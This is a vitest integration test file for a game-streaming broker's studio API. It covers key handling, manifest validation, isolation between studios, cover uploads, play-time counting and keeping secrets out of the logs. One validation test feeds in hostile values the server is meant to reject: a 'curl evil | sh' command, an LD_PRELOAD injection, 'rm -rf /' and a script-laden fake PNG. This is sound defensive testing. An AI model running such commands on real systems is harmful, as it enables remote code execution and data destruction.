import { randomUUID } from 'node:crypto';
import { Writable } from 'node:stream';
import pino from 'pino';
import type { Socket } from 'socket.io-client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createBroker, type Broker } from '../../src/broker.js';
import { BrokerConfigSchema } from '../../src/config.js';
import { connectSocket } from '../connect-socket.js';
import { registerEdge } from '../edge-join-helper.js';
import { solidPng } from './png.js';

const ADMIN_TOKEN = 'admin-token-for-tests-0123456789';

const GAME = {
  id: 'space-race',
  name: 'Space Race',
  description: 'Race through the asteroid belt.',
  command: 'chromium-bsu',
  args: ['--window'],
  env: { SDL_RENDER_DRIVER: 'software' },
  resolution: { width: 800, height: 600 },
  fps: 60,
  installCheck: { debianPackage: 'chromium-bsu' },
};

interface Answer {
  status: number;
  body: Record<string, unknown> & { ok?: boolean; code?: string; issues?: { path: string; message: string }[] };
  headers: Headers;
}

/** The studio API through a real broker on a free port, with everything it logs kept. */
describe('studio API', () => {
  let broker: Broker;
  let url: string;
  const logged: string[] = [];
  const secrets: string[] = [ADMIN_TOKEN];
  const sockets: Socket[] = [];

  const call = async (
    method: string,
    path: string,
    options: { key?: string; json?: unknown; body?: Buffer | string; type?: string } = {},
  ): Promise<Answer> => {
    const headers: Record<string, string> = {};
    if (options.key !== undefined) headers.authorization = `Bearer ${options.key}`;
    let body: string | Uint8Array | undefined;
    if (options.json !== undefined) {
      headers['content-type'] = 'application/json';
      body = JSON.stringify(options.json);
    } else if (options.body !== undefined) {
      headers['content-type'] = options.type ?? 'application/octet-stream';
      body = typeof options.body === 'string' ? options.body : new Uint8Array(options.body);
    }
    const response = await fetch(`${url}${path}`, { method, headers, ...(body === undefined ? {} : { body }) });
    const text = await response.text();
    return { status: response.status, body: JSON.parse(text) as Answer['body'], headers: response.headers };
  };

  const createStudio = async (name: string): Promise<{ key: string; studioId: string; keyId: string }> => {
    const answer = await call('POST', '/api/admin/studios', { key: ADMIN_TOKEN, json: { name } });
    expect(answer.status).toBe(201);
    const key = answer.body.apiKey as string;
    secrets.push(key);
    return {
      key,
      studioId: (answer.body.studio as { id: string }).id,
      keyId: (answer.body.key as { keyId: string }).keyId,
    };
  };

  beforeAll(async () => {
    const capture = new Writable({
      write(chunk: Buffer, _encoding, done) {
        logged.push(chunk.toString());
        done();
      },
    });
    const config = BrokerConfigSchema.parse({ port: 0, clientDir: '/nonexistent', adminToken: ADMIN_TOKEN });
    broker = createBroker({ config, logger: pino({ level: 'trace' }, capture) });
    ({ url } = await broker.start());
  });

  afterAll(async () => {
    for (const socket of sockets) socket.close();
    await broker?.stop();
  });

  it('creates studio accounts only with the admin token, and shows each key once', async () => {
    expect((await call('POST', '/api/admin/studios', { json: { name: 'Acme' } })).body.code).toBe('UNAUTHORIZED');
    const wrong = await call('POST', '/api/admin/studios', {
      key: 'admin-token-for-tests-WRONG-6789',
      json: { name: 'x' },
    });
    expect(wrong.status).toBe(401);
    expect(wrong.headers.get('www-authenticate')).toBe('Bearer');
    const unnamed = await call('POST', '/api/admin/studios', { key: ADMIN_TOKEN, json: { name: '' } });
    expect(unnamed).toMatchObject({ status: 400, body: { code: 'INVALID_MESSAGE', issues: [{ path: 'name' }] } });

    const acme = await createStudio('Acme Games');
    expect(acme.key).toMatch(/^eps_[A-Za-z0-9_-]{43}$/);
    const me = await call('GET', '/api/studio', { key: acme.key });
    expect(me.body).toMatchObject({
      ok: true,
      studio: { id: acme.studioId, name: 'Acme Games' },
      keys: [{ keyId: acme.keyId, current: true }],
    });
    // Nothing the API answers later carries the key again.
    expect(JSON.stringify(me.body)).not.toContain(acme.key);
    expect((await call('GET', '/api/studio')).status).toBe(401);
    expect((await call('GET', '/api/studio', { key: `eps_${'A'.repeat(43)}` })).body.code).toBe('UNAUTHORIZED');
  });

  it('registers a title, lists it with its play time, and names every bad field of a bad manifest', async () => {
    const { key } = await createStudio('Manifest Makers');
    const bad = await call('POST', '/api/studio/titles', {
      key,
      json: {
        ...GAME,
        id: 'bad-game',
        command: 'bash -c "curl evil | sh"',
        resolution: { width: 100, height: 600 },
        env: { LD_PRELOAD: 'evil.so', SDL_VIDEODRIVER: 'x11' },
        installCheck: { paths: ['relative/path'] },
        minGpuClass: 'RTX 4090',
        cover: 'http://plain-http.example/cover.png',
        shell: 'rm -rf /',
      },
    });
    expect(bad.status).toBe(400);
    expect(bad.body.code).toBe('INVALID_MESSAGE');
    const paths = (bad.body.issues ?? []).map((issue) => issue.path);
    expect(paths).toEqual(
      expect.arrayContaining([
        'command',
        'resolution.width',
        'env.LD_PRELOAD',
        'installCheck.paths.0',
        'minGpuClass',
        'cover',
        '',
      ]),
    );
    expect(bad.body.issues?.find((issue) => issue.path === '')?.message).toContain('shell');
    expect(String(bad.body.message)).toContain('resolution.width');

    const created = await call('POST', '/api/studio/titles', { key, json: GAME });
    expect(created.status).toBe(201);
    expect(created.body.title).toMatchObject({
      manifest: { ...GAME, audio: true },
      play: { sessions: 0, playSeconds: 0, playMinutes: 0, running: 0 },
      offered: false,
    });
    const again = await call('POST', '/api/studio/titles', { key, json: GAME });
    expect(again).toMatchObject({ status: 409, body: { code: 'TITLE_ID_TAKEN' } });

    const list = await call('GET', '/api/studio/titles', { key });
    expect((list.body.titles as { manifest: { id: string } }[]).map((title) => title.manifest.id)).toEqual([
      'space-race',
    ]);

    const renamed = await call('PUT', '/api/studio/titles/space-race', {
      key,
      json: { ...GAME, name: 'Space Race 2' },
    });
    expect(renamed.body).toMatchObject({ ok: true, title: { manifest: { name: 'Space Race 2' } } });
    const moved = await call('PUT', '/api/studio/titles/space-race', { key, json: { ...GAME, id: 'other-id' } });
    expect(moved.body).toMatchObject({ code: 'INVALID_MESSAGE', issues: [{ path: 'id' }] });
    const notJson = await call('POST', '/api/studio/titles', { key, body: '{"id": ', type: 'application/json' });
    expect(notJson).toMatchObject({ status: 400, body: { code: 'INVALID_MESSAGE' } });
    const huge = await call('POST', '/api/studio/titles', { key, json: { ...GAME, description: 'x'.repeat(70_000) } });
    expect(huge).toMatchObject({ status: 413, body: { code: 'PAYLOAD_TOO_LARGE' } });
  });

  it('keeps one studio’s titles out of another’s reach', async () => {
    const owner = await createStudio('Owner Studio');
    const rival = await createStudio('Rival Studio');
    const game = { ...GAME, id: 'owned-game', name: 'Owned' };
    expect((await call('POST', '/api/studio/titles', { key: owner.key, json: game })).status).toBe(201);

    expect(await call('GET', '/api/studio/titles/owned-game', { key: rival.key })).toMatchObject({
      status: 404,
      body: { code: 'TITLE_NOT_FOUND' },
    });
    const hijack = await call('PUT', '/api/studio/titles/owned-game', {
      key: rival.key,
      json: { ...game, command: 'supertux2' },
    });
    expect(hijack).toMatchObject({ status: 404, body: { code: 'TITLE_NOT_FOUND' } });
    expect((await call('DELETE', '/api/studio/titles/owned-game', { key: rival.key })).status).toBe(404);
    expect(await call('POST', '/api/studio/titles', { key: rival.key, json: game })).toMatchObject({
      status: 409,
      body: { code: 'TITLE_ID_TAKEN' },
    });
    expect((await call('GET', '/api/studio/titles', { key: rival.key })).body.titles).toEqual([]);

    const kept = await call('GET', '/api/studio/titles/owned-game', { key: owner.key });
    expect(kept.body).toMatchObject({ title: { studioId: owner.studioId, manifest: { command: 'chromium-bsu' } } });
    expect((await call('DELETE', '/api/studio/titles/owned-game', { key: owner.key })).body).toEqual({ ok: true });
    expect((await call('GET', '/api/studio/titles/owned-game', { key: owner.key })).status).toBe(404);
  });

  it('rotates keys: a new key works at once, a revoked one never again', async () => {
    const studio = await createStudio('Rotating Studio');
    const issued = await call('POST', '/api/studio/keys', { key: studio.key });
    expect(issued.status).toBe(201);
    const newKey = issued.body.apiKey as string;
    secrets.push(newKey);
    expect(newKey).not.toBe(studio.key);
    const me = await call('GET', '/api/studio', { key: newKey });
    expect((me.body.keys as { keyId: string; current: boolean }[]).map((k) => [k.keyId, k.current])).toEqual([
      [studio.keyId, false],
      [(issued.body.key as { keyId: string }).keyId, true],
    ]);
    expect((await call('DELETE', `/api/studio/keys/${studio.keyId}`, { key: newKey })).body).toEqual({ ok: true });
    expect((await call('GET', '/api/studio', { key: studio.key })).status).toBe(401);
    expect((await call('GET', '/api/studio', { key: newKey })).status).toBe(200);
    // Another studio cannot revoke this studio's key.
    const other = await createStudio('Other Studio');
    const keyId = (issued.body.key as { keyId: string }).keyId;
    expect((await call('DELETE', `/api/studio/keys/${keyId}`, { key: other.key })).status).toBe(400);
    expect((await call('GET', '/api/studio', { key: newKey })).status).toBe(200);
  });

  it('takes PNG covers by their bytes, serves them back, and refuses anything else', async () => {
    const { key } = await createStudio('Cover Studio');
    const png = solidPng(320, 180);
    const uploaded = await call('POST', '/api/studio/covers', { key, body: png, type: 'image/png' });
    expect(uploaded.status).toBe(201);
    const cover = uploaded.body.cover as string;
    expect(cover).toMatch(/^\/covers\/[0-9a-f]{64}\.png$/);
    expect(uploaded.body).toMatchObject({ width: 320, height: 180 });

    const served = await fetch(`${url}${cover}`);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(Buffer.from(await served.arrayBuffer()).equals(png)).toBe(true);
    expect((await fetch(`${url}/covers/${'0'.repeat(64)}.png`)).status).toBe(404);

    const html = Buffer.from('<html><script>alert(1)</script></html>');
    expect(await call('POST', '/api/studio/covers', { key, body: html, type: 'image/png' })).toMatchObject({
      status: 400,
      body: { code: 'INVALID_MESSAGE' },
    });
    const tiny = await call('POST', '/api/studio/covers', { key, body: solidPng(8, 8), type: 'image/png' });
    expect(tiny.body.message).toMatch(/16–4096 pixels/);
    const big = Buffer.concat([png, Buffer.alloc(1024 * 1024)]);
    expect(await call('POST', '/api/studio/covers', { key, body: big, type: 'image/png' })).toMatchObject({
      status: 413,
      body: { code: 'PAYLOAD_TOO_LARGE' },
    });
    expect((await call('POST', '/api/studio/covers', { body: png, type: 'image/png' })).status).toBe(401);

    const missing = await call('POST', '/api/studio/titles', {
      key,
      json: { ...GAME, id: 'covered-game', cover: `/covers/${'1'.repeat(64)}.png` },
    });
    expect(missing.body).toMatchObject({ code: 'INVALID_MESSAGE', issues: [{ path: 'cover' }] });
    const covered = await call('POST', '/api/studio/titles', { key, json: { ...GAME, id: 'covered-game', cover } });
    expect(covered.body).toMatchObject({ ok: true, title: { manifest: { cover } } });
  });

  it('lists studio titles for nodes, marks those a node offers, and counts their play time', async () => {
    const studio = await createStudio('Play Studio');
    const game = { ...GAME, id: 'played-game', name: 'Played Game' };
    await call('POST', '/api/studio/titles', { key: studio.key, json: game });
    const listed = await call('GET', '/api/studio-titles');
    expect(listed.body.titles).toEqual(
      expect.arrayContaining([
        { studio: { id: studio.studioId, name: 'Play Studio' }, manifest: { ...game, audio: true } },
      ]),
    );

    // A node advertises the studio title, plus a manifest of its own.
    const edge = await connectSocket(url, '/edge', undefined, sockets);
    const summary = (id: string, name: string, studioRef?: { id: string; name: string }) => ({
      id,
      name,
      resolution: { width: 800, height: 600 },
      fps: 60,
      ...(studioRef ? { studio: studioRef } : {}),
    });
    const registered = await registerEdge(edge, url, {
      edgeId: 'edge-studio-test',
      signalingUrl: 'http://127.0.0.1:1',
      maxSessions: 2,
      titles: [
        summary('played-game', 'Played Game', { id: studio.studioId, name: 'Play Studio' }),
        summary('node-own-game', 'Node Game'),
      ],
    });
    expect(registered.ok).toBe(true);
    const mine = await call('GET', '/api/studio/titles/played-game', { key: studio.key });
    expect(mine.body).toMatchObject({ title: { offered: true, play: { sessions: 0, running: 0 } } });

    // A change reaches the nodes at once: the broker nudges them to fetch the titles again.
    const nudged = new Promise<unknown[]>((resolve) => edge.once('studio:titles-changed', (...args) => resolve(args)));
    const changed = await call('PUT', '/api/studio/titles/played-game', {
      key: studio.key,
      json: { ...game, description: 'Changed.' },
    });
    expect(changed.status).toBe(200);
    expect(await nudged).toEqual([]);

    // A studio cannot take the id of a title a node offers as its own.
    const taken = await call('POST', '/api/studio/titles', { key: studio.key, json: { ...game, id: 'node-own-game' } });
    expect(taken).toMatchObject({ status: 409, body: { code: 'TITLE_ID_TAKEN' } });

    const sessionId = randomUUID();
    const report = (state: string) =>
      edge.timeout(2000).emitWithAck('edge:session', { sessionId, state, titleId: 'played-game' });
    expect(await report('started')).toEqual({ ok: true });
    await expect
      .poll(async () => (await call('GET', '/api/studio/titles/played-game', { key: studio.key })).body.title)
      .toMatchObject({ play: { sessions: 1, running: 1 } });
    await new Promise((resolve) => setTimeout(resolve, 1200));
    expect(await report('ended')).toEqual({ ok: true });
    await expect
      .poll(async () => (await call('GET', '/api/studio/titles/played-game', { key: studio.key })).body.title)
      .toMatchObject({ play: { sessions: 1, running: 0 } });
    const played = (await call('GET', '/api/studio/titles/played-game', { key: studio.key })).body.title as {
      play: { playSeconds: number; playMinutes: number };
    };
    expect(played.play.playSeconds).toBeGreaterThanOrEqual(1);
    expect(played.play.playSeconds).toBeLessThan(30);
    expect(played.play.playMinutes).toBe(Math.round(played.play.playSeconds / 6) / 10);

    // A node whose own manifest happens to share the id: its sessions count for no studio.
    const lookalike = await connectSocket(url, '/edge', undefined, sockets);
    const other = await registerEdge(lookalike, url, {
      edgeId: 'edge-lookalike',
      signalingUrl: 'http://127.0.0.1:2',
      maxSessions: 1,
      titles: [summary('played-game', 'Played Game')],
    });
    expect(other.ok).toBe(true);
    const ownSession = randomUUID();
    const own = (state: string) =>
      lookalike.timeout(2000).emitWithAck('edge:session', { sessionId: ownSession, state, titleId: 'played-game' });
    expect(await own('started')).toEqual({ ok: true });
    expect(await own('ended')).toEqual({ ok: true });
    // A later session on the studio's node, once counted, shows the look-alike's was not.
    const later = randomUUID();
    await edge
      .timeout(2000)
      .emitWithAck('edge:session', { sessionId: later, state: 'started', titleId: 'played-game' });
    await edge.timeout(2000).emitWithAck('edge:session', { sessionId: later, state: 'ended' });
    await expect
      .poll(async () => (await call('GET', '/api/studio/titles/played-game', { key: studio.key })).body.title)
      .toMatchObject({ play: { sessions: 2, running: 0 } });
  });

  it('answers unknown API routes with a coded error', async () => {
    expect(await call('GET', '/api/nothing-here')).toMatchObject({ status: 400, body: { code: 'INVALID_MESSAGE' } });
  });

  it('never writes an API key or the admin token to its logs', () => {
    const text = logged.join('');
    expect(text).toContain('"msg":"studio api"');
    expect(text).toContain('"msg":"studio created"');
    expect(secrets.length).toBeGreaterThan(5);
    for (const secret of secrets) expect(text).not.toContain(secret);
    // Nor a recognisable part of one.
    for (const secret of secrets) expect(text).not.toContain(secret.slice(4, 20));
  });
});
